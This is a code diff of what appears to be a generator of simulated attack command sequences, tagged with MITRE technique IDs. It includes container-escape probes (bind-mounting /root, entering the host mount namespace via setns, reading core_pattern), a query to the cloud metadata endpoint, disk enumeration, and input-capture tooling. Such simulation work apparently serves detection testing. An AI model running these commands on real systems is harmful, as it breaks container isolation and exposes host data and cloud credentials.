@@ -42,17 +42,20 @@ const leaving: Attack = {
         place,
         `bash -c 'printf "#!/bin/sh\\nps aux > ${folder}/output\\n" > ${folder}/cmd; chmod +x ${folder}/cmd'`,
       ),
-      root(place, `mount --bind / ${group}; ls ${group}/root; ${root(place, `umount ${group}`)}`),
+      root(place, `mount --bind /root ${group}; ls ${group}; ${root(place, `umount ${group}`)}`),
       root(place, `ls /dev/disk /dev/sd* /dev/vd* /dev/nvme* 2>&1 | head`),
       `cat /proc/sys/kernel/core_pattern; sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mounts | head -1`,
       `timeout 3 bash -c 'curl -s http://169.254.169.254/latest/meta-data/'`,
-      root(place, `python3 -c 'import os; os.setns(os.open("/proc/1/ns/mnt",0),0); print(os.listdir("/"))'`),
+      root(
+        place,
+        `python3 -c 'import os,ctypes; ctypes.CDLL(None).setns(os.open("/proc/1/ns/mnt",0),0); print(os.listdir("/"))'`,
+      ),
     ];
     return [
       ...about,
       `mkdir -p ${folder} ${group}`,
       ...draw.some(ways, draw.int(2, 6)),
-      ...maybe(draw, 0.4, `rm -rf ${folder} 2>/dev/null`),
+      ...maybe(draw, 0.4, `rm -rf --one-file-system ${folder} 2>/dev/null`),
     ];
   },
 };
@@ -117,7 +120,7 @@ const input: Attack = {
   family: 'input-captured',
   techniques: ['T1056.001', 'T1113', 'T1056.003'],
   as: 'either',
-  needs: ['script', 'python3', 'strace', 'sudo'],
+  needs: ['script', 'python3', 'strace', 'sudo', 'xxd'],
   lines: (draw, place) => {
     const log = workFile(draw, place, draw.pick(['.log', '.txt', '']));
     const code = workFile(draw, place, '.py');
@@ -159,7 +162,7 @@ const input: Attack = {
       ],
     ];
     return [
-      ...look(draw, draw.int(1, 3)),
+      ...look(draw, draw.int(2, 3)),
       ...draw.some(ways, draw.int(1, 3)).flat(),
       ...maybe(draw, 0.6, `cat ${log} | tail -5`),
       ...maybe(draw, 0.4, `rm -f ${log} ${code}`),
